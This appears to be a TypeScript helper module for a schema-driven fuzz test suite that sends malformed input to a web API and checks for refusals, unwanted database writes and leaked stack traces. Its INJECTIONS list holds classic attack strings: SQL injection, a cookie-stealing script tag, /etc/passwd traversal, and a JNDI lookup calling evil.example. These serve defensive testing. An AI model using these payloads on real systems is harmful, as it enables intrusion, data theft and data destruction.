/**
 * Hostile input, generated from the service's own OpenAPI document: the routes,
 * their parameters and body schemas are read from GET /docs/json, so a route
 * added later is fuzzed without touching the tests. Everything random comes from
 * one seeded generator, so a failure reproduces with FUZZ_SEED.
 */
import { Ajv } from 'ajv';
import addFormats from 'ajv-formats';
import type { Sql } from 'postgres';

export type Schema = Record<string, any>;
export interface Param {
  name: string;
  in: 'path' | 'query' | 'header';
  required: boolean;
  schema: Schema;
}
export interface Operation {
  method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE';
  path: string;
  params: Param[];
  body: Schema | null;
  secured: boolean;
}

/** mulberry32: small, fast, and the same sequence for the same seed everywhere. */
export function rng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)]!;
  /** k distinct elements, in random order. */
  const some = <T>(xs: readonly T[], k: number): T[] => {
    const copy = [...xs];
    for (let i = copy.length - 1; i > 0; i--) {
      const j = Math.floor(next() * (i + 1));
      [copy[i], copy[j]] = [copy[j]!, copy[i]!];
    }
    return copy.slice(0, k);
  };
  return { next, pick, some };
}
export type Rng = ReturnType<typeof rng>;

export const SEED = Number(process.env.FUZZ_SEED ?? 20261124) >>> 0;

export function operations(doc: Schema): Operation[] {
  const ops: Operation[] = [];
  for (const [path, item] of Object.entries<Schema>(doc.paths)) {
    for (const [method, op] of Object.entries<Schema>(item)) {
      const params = ((op.parameters ?? []) as Schema[]).map((p) => ({
        name: p.name,
        in: p.in,
        required: Boolean(p.required),
        schema: p.schema ?? {},
      }));
      const body = op.requestBody?.content?.['application/json']?.schema ?? null;
      ops.push({ method: method.toUpperCase() as Operation['method'], path, params, body, secured: Boolean(op.security?.length) });
    }
  }
  return ops;
}

/** Values that satisfy the patterns the API uses; a new pattern with no sample here fails loudly. */
const PATTERN_SAMPLES = [
  '1',
  '120102',
  '120102001',
  '13812345678',
  '022-23456789',
  '12345-20261124-000001',
  '0000',
  'other',
  'call-0001',
  'CHANNEL_CREATE',
  'a'.repeat(40),
  '1795600000',
  'key-00000001',
  'A1',
  'abc',
  'ABCD2345',
  '0123456789abcdef',
  '2026-11',
];

/** A valid value for a schema: the baseline each variant spoils in one place only. */
export function sample(s: Schema, name = '', overrides: Record<string, unknown> = {}): unknown {
  if (name in overrides) return overrides[name];
  if (s.const !== undefined) return s.const;
  if (s.enum) return s.enum[0];
  const alt = s.anyOf ?? s.oneOf;
  if (alt) return sample(alt.find((x: Schema) => x.type !== 'null') ?? alt[0], name, overrides);
  if (s.default !== undefined) return s.default;
  switch (s.type) {
    case 'integer':
    case 'number':
      return Math.max(s.minimum ?? 1, 1);
    case 'boolean':
      return false;
    case 'array':
      return Array.from({ length: Math.max(s.minItems ?? 1, 1) }, () => sample(s.items ?? {}, '', overrides));
    case 'object': {
      const out: Record<string, unknown> = {};
      for (const key of s.required ?? []) out[key] = sample(s.properties[key], key, overrides);
      // A body that must name something (a PATCH: minProperties) gets its first optional fields too.
      for (const key of Object.keys(s.properties ?? {})) {
        if (Object.keys(out).length >= (s.minProperties ?? 0)) break;
        if (!(key in out)) out[key] = sample(s.properties[key], key, overrides);
      }
      return out;
    }
    case 'string': {
      if (s.format === 'date-time') return '2026-11-24T02:00:00.000Z';
      if (s.format === 'date') return '2026-11-24';
      if (s.format === 'uri') return 'https://example.com/photo.jpg';
      if (s.pattern) {
        const re = new RegExp(s.pattern, 'u');
        const hit = PATTERN_SAMPLES.find((v) => re.test(v) && v.length >= (s.minLength ?? 0) && v.length <= (s.maxLength ?? Infinity));
        if (hit === undefined) throw new Error(`no sample for pattern ${s.pattern} (${name}); add one to PATTERN_SAMPLES`);
        return hit;
      }
      return '路灯不亮，已经一周了'.padEnd(s.minLength ?? 0, '。').slice(0, s.maxLength ?? Infinity);
    }
  }
  return 'x';
}

// The oracle: a variant is sent as hostile only if the schema, read independently
// of the service's own validator, or the API's promises below, say it is invalid.
const ajvBody = new Ajv({ strict: false, allErrors: false, coerceTypes: false });
const ajvText = new Ajv({ strict: false, allErrors: false, coerceTypes: 'array', useDefaults: true });
addFormats.default(ajvBody);
addFormats.default(ajvText);
const compiled = new Map<string, (v: unknown) => boolean>();
/**
 * OpenAPI 3.0 writes "this or null" as `nullable: true`, and Ajv reads that as the spec
 * says: `enum` still rules, so a nullable enum would refuse the null the API takes.
 * The null goes into the enum, as the schema means it.
 */
function withNullableEnums(schema: Schema): Schema {
  if (Array.isArray(schema)) return schema.map(withNullableEnums);
  if (!schema || typeof schema !== 'object') return schema;
  const out: Schema = Object.fromEntries(Object.entries(schema).map(([k, v]) => [k, withNullableEnums(v)]));
  if (out.nullable === true && Array.isArray(out.enum) && !out.enum.includes(null)) out.enum = [...out.enum, null];
  return out;
}

function validates(schema: Schema, value: unknown, text: boolean): boolean {
  const key = `${text}:${JSON.stringify(schema)}`;
  let fn = compiled.get(key);
  if (!fn) compiled.set(key, (fn = (text ? ajvText : ajvBody).compile(withNullableEnums(schema)) as (v: unknown) => boolean));
  return fn(structuredClone(value));
}

/** Not text: NUL (PostgreSQL text cannot hold it) or an unpaired surrogate (not Unicode). */
export const NOT_TEXT = /\0|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
/** Instants that pass a plain RFC 3339 check but name no storable moment. */
export const BAD_INSTANTS = ['2016-12-31T23:59:60Z', '0000-01-01T00:00:00Z', '2026-11-24T00:00:00+23:59', '9999-12-31T23:59:59-14:00'];

function notText(value: unknown): boolean {
  if (typeof value === 'string') return NOT_TEXT.test(value);
  if (value && typeof value === 'object') return Object.entries(value).some(([k, v]) => NOT_TEXT.test(k) || notText(v));
  return false;
}

/** A date or date-time field holding one of BAD_INSTANTS. */
function badInstant(s: Schema, value: unknown): boolean {
  if (typeof value === 'string') return ['date', 'date-time'].includes(s.format) && BAD_INSTANTS.includes(value);
  if (Array.isArray(value)) return value.some((v) => badInstant(s.items ?? {}, v));
  if (value && typeof value === 'object') return Object.entries(value).some(([k, v]) => badInstant(s.properties?.[k] ?? {}, v));
  return false;
}

/** True when the API must refuse this value for this schema. */
export function refused(schema: Schema, value: unknown, part: 'body' | 'query' | 'path' | 'header'): boolean {
  return notText(value) || badInstant(schema, value) || !validates(schema, value, part !== 'body');
}

export const INJECTIONS = [
  "' OR 1=1 --",
  '"; drop table orders; --',
  '<script>alert(document.cookie)</script>',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '\u202egnp.exe',
  '😀 \u200b\ufeff',
];
/** Strings no field may hold. */
export const NOT_TEXTS = ['bad\u0000byte', 'lone\ud800surrogate', 'lone\udc00low', '\u0000'];

/** Values of every JSON type but the ones the schema allows, as the variants for a wrong type. */
export function wrongTypes(r: Rng): unknown[] {
  const all: unknown[] = [0, -1, 1.5, 1e308, true, null, 'string', [], [1, 'a'], {}, { $gt: '' }, '1', 'true'];
  return r.some(all, 6);
}

/** `[[[[…]]]]` as JSON text, deeper than any parser should recurse. */
export const deepJson = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);

/** Content digest of every table in the schema, so any write at all shows, not just new rows. */
export async function snapshot(sql: Sql): Promise<Record<string, string>> {
  const tables = await sql<{ name: string }[]>`
    select table_name as name from information_schema.tables
    where table_schema = 'public' and table_type = 'BASE TABLE' order by table_name`;
  const out: Record<string, string> = {};
  for (const { name } of tables) {
    const [row] = await sql.unsafe(
      `select count(*)::text || ':' || md5(coalesce(string_agg(t::text, '|' order by t::text), '')) as d from "${name}" t`,
    );
    out[name] = row!.d as string;
  }
  return out;
}

/** No stack frames, source paths or driver internals in an answer. */
export const LEAKS =
  /\bat [\w.<>]+ \(|\bat (file:|\/|node:)|\/(work|home|usr|src|node_modules)\/|\.ts:\d+|\.js:\d+|PostgresError|SQLSTATE|syntax error at/;
